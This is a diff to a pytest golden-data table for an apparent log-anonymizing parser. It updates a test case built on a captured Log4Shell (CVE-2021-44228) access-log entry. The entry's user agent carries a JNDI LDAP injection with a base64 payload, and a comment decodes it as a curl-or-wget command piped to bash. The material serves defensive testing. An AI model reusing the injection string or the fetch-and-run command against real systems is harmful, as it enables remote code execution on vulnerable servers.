@@ -545,7 +545,8 @@ GOLDEN = [
     ),
     pytest.param(
         "combined",
-        # apache_log4j2_cve-2021-44228…log:1 — JNDI user agent; the LDAP host IP inside it is masked
+        # apache_log4j2_cve-2021-44228…log:1 — JNDI user agent; the LDAP host IP inside it is masked,
+        # and in its base64 payload, "(curl -s 45.155.205.233:5874/82.64.145.141:443||wget …)|bash", too
         '192.168.1.3 - - [10/Dec/2021:14:25:38 +0000] "GET / HTTP/1.1" 401 157 "-" "${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/KGN1cmwgLXMgNDUuMTU1LjIwNS4yMzM6NTg3NC84Mi42NC4xNDUuMTQxOjQ0M3x8d2dldCAtcSAtTy0gNDUuMTU1LjIwNS4yMzM6NTg3NC84Mi42NC4xNDUuMTQxOjQ0Myl8YmFzaA==}"',
         row(
             ts=utc(2021, 12, 10, 14, 25, 38),
@@ -554,9 +555,9 @@ GOLDEN = [
             protocol="HTTP/1.1",
             status=401,
             bytes=157,
-            user_agent="${jndi:ldap://45.155.205.0/24:12344/Basic/Command/Base64/KGN1cmwgLXMgNDUuMTU1LjIwNS4yMzM6"
-            "NTg3NC84Mi42NC4xNDUuMTQxOjQ0M3x8d2dldCAtcSAtTy0gNDUuMTU1LjIwNS4yMzM6NTg3NC84Mi42NC4xNDUuMTQxOjQ0My"
-            "l8YmFzaA==}",
+            user_agent="${jndi:ldap://45.155.205.0/24:12344/Basic/Command/Base64/KGN1cmwgLXMgNDUuMTU1LjIwNS4wLzI0"
+            "OjU4NzQvODIuNjQuMTQ1LjAvMjQ6NDQzfHx3Z2V0IC1xIC1PLSA0NS4xNTUuMjA1LjAvMjQ6NTg3NC84Mi42NC4xNDUuMC8yNDo0"
+            "NDMpfGJhc2g=}",
             client_net="192.168.1.0/24",
         ),
         id="crowdsec-jndi-ua",
